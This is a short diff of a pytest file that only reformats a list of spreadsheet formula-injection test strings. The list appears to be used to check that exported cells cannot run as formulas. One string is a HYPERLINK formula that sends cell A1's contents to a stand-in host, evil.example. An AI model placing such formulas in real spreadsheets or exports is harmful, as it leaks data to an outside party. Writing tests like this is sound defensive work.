@@ -21,8 +21,8 @@ class TestCell:
     @pytest.mark.parametrize(
         "text",
         [
-            'gpt;=HYPERLINK("https://evil.example/?"&A1)', "x;=1+1", "x; -1", "x;\t@SUM(A1)", "x\t=1+1", "x\n=1+1\n", "x\r+1", "\t=1",
-            'x;"=1+1;', 'x;""=1+1;"', "x\n- item",
+            'gpt;=HYPERLINK("https://evil.example/?"&A1)', "x;=1+1", "x; -1", "x;\t@SUM(A1)", "x\t=1+1", "x\n=1+1\n", "x\r+1",
+            "\t=1", 'x;"=1+1;', 'x;""=1+1;"', "x\n- item",
         ],
     )  # fmt: skip
     def test_begins_no_cell_that_runs_whatever_separates(self, text, separator):
